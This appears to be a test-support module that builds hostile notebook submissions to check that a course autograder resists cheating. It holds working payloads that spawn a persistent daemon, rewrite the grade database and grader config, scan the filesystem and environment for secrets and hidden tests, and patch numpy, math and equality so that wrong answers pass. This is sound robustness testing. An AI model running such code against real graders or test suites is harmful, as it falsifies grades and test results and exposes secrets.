"""The hostile students of a simulated class: submissions that attack the grader.

``ATTACKS`` names each attack; ``attacked`` writes a full submission carrying
one, with the score it may earn at most (None: no more than the ``wrong`` control, the
same answers without the attack).
"""

from __future__ import annotations

import ast
import copy
import json

from tools.grading.cells import cell_text
from .answers import (
    autograded_points, index_of, questions, student_notebook,
)

# What a hostile student tries. Each is a submission of the troubled notebook;
# ``wrong`` is the control the attacks that need wrong answers are compared with: an
# attack may never score more than the same answers without it.
ATTACKS = {
    "wrong": "every answer a little wrong (the control of the attacks below)",
    "daemon": "a cell double-forks a daemon that outlives the kernel and keeps writing",
    "tamper": "a cell writes into the course: nbgrader_config.py, memkit, solutions/, gradebook",
    "spy": "a cell reads solutions, the gradebook, the environment's secrets and the network",
    "patched-numpy": "wrong answers, with np.allclose, isclose, array_equal, math.isclose, abs "
    "and memkit patched to agree",
    "input-transformer": "wrong answers, with an IPython input transformer that empties the tests",
    "swallowed-errors": "wrong answers, with an exception handler that swallows the assertions",
    "lying-eq": "a string answer that is a str subclass whose __eq__ always says yes",
    "old-format": "the full answers saved as an nbformat 3 notebook",
}
SPY_REPORT = "SPY-REPORT "


def _assigned(text: str) -> list[str]:
    try:
        tree = ast.parse(text)
    except SyntaxError:
        return []
    names = []
    for node in tree.body:
        targets = node.targets if isinstance(node, ast.Assign) else [getattr(node, "target", None)]
        for t in targets:
            if isinstance(t, ast.Name):
                names.append(t.id)
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            names.append(node.name)
    return names


# Makes every answer the cell assigned a little wrong (functions: their results).
_PERTURB = """
def __perturb(v):
    import numpy as np
    if type(v) is bool:
        return not v
    if isinstance(v, (int, np.integer)):
        return v + 1
    if isinstance(v, (float, np.floating)):
        return v + 1.0
    if isinstance(v, str):
        return {"a": "b", "b": "c", "c": "d", "d": "a"}.get(v.strip().lower(), v + "x")
    if isinstance(v, np.ndarray) and v.dtype.kind in "iuf":
        return v + 1
    if isinstance(v, (list, tuple)):
        return type(v)(__perturb(x) for x in v)
    if callable(v) and not isinstance(v, type):
        return lambda *a, __f=v, **k: __perturb(__f(*a, **k))
    return v
for __n in NAMES:
    if __n in globals():
        globals()[__n] = __perturb(globals()[__n])
"""

# The attacks, appended to the first answer cell (each guarded: the answer still runs).
_TOUCH = r"""
def __attack_course():
    import os, sqlite3
    done = []
    here = os.getcwd()
    tops = []
    for _ in range(6):
        tops.append(here)
        here = os.path.dirname(here)
    for top in tops:
        cfg = os.path.join(top, "nbgrader_config.py")
        try:
            with open(cfg, "a") as fh:
                fh.write("\nc.GenerateFeedback.preprocessors = []\n")
            done.append("config:" + cfg)
        except OSError:
            pass
        try:
            with open(os.path.join(top, "solutions", "pwned.txt"), "w") as fh:
                fh.write("pwned")
            done.append("solutions:" + top)
        except OSError:
            pass
        db = os.path.join(top, "gradebook.db")
        if os.path.exists(db):
            try:
                con = sqlite3.connect(db, timeout=5)
                con.execute("update grade set manual_score = 1000, auto_score = 0")
                con.commit()
                done.append("gradebook:" + db)
            except Exception:
                pass
    try:
        import memkit
        with open(memkit.__file__, "a") as fh:
            fh.write("\n# pwned\n")
        done.append("memkit")
    except Exception:
        pass
    return done
"""

_ATTACK_CODE = {
    "daemon": _TOUCH
    + r"""
import os, sys
__code = ("import time, os\n# memcourse-attack-daemon\n" + {touch!r} +
          "\nfor _ in range(40):\n    __attack_course()\n    time.sleep(0.5)\n")
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", __code])
    finally:
        os._exit(0)
else:
    os.wait()
""",
    "tamper": _TOUCH
    + "\nimport os\nprint('TAMPER', repr(os.path.dirname(os.getcwd())), __attack_course())\n",
    "spy": r"""
def __spy(port):
    import os, socket
    found = []
    for key, value in os.environ.items():
        if any(w in key.upper() for w in ("DB", "SECRET", "TOKEN", "PASS", "KEY")):
            found.append("env:" + key)
    seen = 0
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages")]
        for name in files:
            seen += 1
            path = os.path.join(top, name)
            if name in ("gradebook.db", "nbgrader_config.py", "grades.csv"):
                found.append("file:" + path)
            elif name.endswith(".ipynb"):
                try:
                    if "BEGIN HIDDEN TESTS" in open(path, errors="replace").read():
                        found.append("hidden:" + path)
                except OSError:
                    pass
        if seen > 50000:
            break
    for rel in ("../../../solutions", "../../solutions", "../solutions"):
        if os.path.isdir(rel):
            found.append("solutions:" + rel)
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        found.append("network:127.0.0.1")
    except OSError:
        pass
    return found
print("SPY-REPORT", __spy({port}))
""",
    "patched-numpy": r"""
import builtins, math
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool) if np.ndim(a) else True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
try:
    import memkit, importlib, pkgutil
    for __m in pkgutil.iter_modules(memkit.__path__):
        __mod = importlib.import_module("memkit." + __m.name)
        for __k in dir(__mod):
            if callable(getattr(__mod, __k)) and not __k.startswith("_"):
                setattr(__mod, __k, lambda *a, **k: 0.0)
except Exception:
    pass
""",
    "input-transformer": r"""
def __empty_tests(lines):
    return ["pass\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(__empty_tests)
""",
    "swallowed-errors": r"""
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
""",
}


def _a_letter(value: ast.expr) -> bool:
    """An answer given as a string: a literal, or the letter of an option drawn for the
    student (``options.key(i)``, ``memkit.variants``)."""
    if isinstance(value, ast.Constant):
        return isinstance(value.value, str)
    return (isinstance(value, ast.Call) and isinstance(value.func, ast.Attribute)
            and value.func.attr == "key")

def attacked(kind: str, source: dict, release: dict, port: int = 9) -> tuple[str, float | None]:
    """A submission carrying the attack ``kind`` (file text, autograded score it earned).

    The score is None where it is "whatever the same answers without the attack score"
    (the kinds that answer wrong): compare with the ``wrong`` submission.
    """
    import nbformat

    full = student_notebook(source, release, {q.answer_id for q in questions(source)})
    total = autograded_points(source)
    nb = copy.deepcopy(full)
    code_qs = [q for q in questions(source) if q.code]
    first = index_of(nb, code_qs[0].answer_id)
    expected: float | None = total
    if kind in ("wrong", "patched-numpy", "input-transformer", "swallowed-errors"):
        expected = None
        for q in code_qs:
            cell = nb["cells"][index_of(nb, q.answer_id)]
            names = _assigned(cell_text(cell))
            cell["source"] = cell_text(cell) + "\n" + _PERTURB.replace("NAMES", repr(names))
        if kind != "wrong":
            cell = nb["cells"][first]
            cell["source"] = _ATTACK_CODE[kind] + "\n" + cell_text(cell)
    elif kind in ("daemon", "tamper", "spy"):
        code = _ATTACK_CODE[kind]
        if kind == "daemon":
            code = code.replace("{touch!r}", repr(_TOUCH))
        code = code.replace("{port}", str(port))
        cell = nb["cells"][first]
        cell["source"] = cell_text(cell) + "\ntry:\n" + "\n".join(
            "    " + line for line in code.splitlines()
        ) + "\nexcept Exception as __e:\n    print('attack failed', __e)\n"
    elif kind == "lying-eq":
        for q in code_qs:
            cell = nb["cells"][index_of(nb, q.answer_id)]
            tree = ast.parse(cell_text(cell))
            strings = [
                n.targets[0].id
                for n in tree.body
                if isinstance(n, ast.Assign)
                and isinstance(n.targets[0], ast.Name)
                and _a_letter(n.value)
            ]
            if strings:
                cell["source"] = cell_text(cell) + (
                    "\nclass __Liar(str):\n"
                    "    def __eq__(self, other):\n        return True\n"
                    "    __hash__ = str.__hash__\n"
                    "    def __str__(self):\n        return self\n"
                    "    def strip(self, *a):\n        return self\n"
                    "    def lower(self):\n        return self\n"
                    "    def __contains__(self, x):\n        return True\n"
                    + "".join(f"{name} = __Liar('zz')\n" for name in strings)
                )
                expected = total - q.points
                break
        else:
            raise ValueError("lying-eq needs a question answered by a string")
    elif kind == "old-format":
        v3 = nbformat.convert(nbformat.from_dict(full), 3)
        return json.dumps(v3, indent=1) + "\n", total
    else:
        raise ValueError(f"unknown attack {kind!r}; one of {sorted(ATTACKS)}")
    return json.dumps(nb, indent=1) + "\n", expected
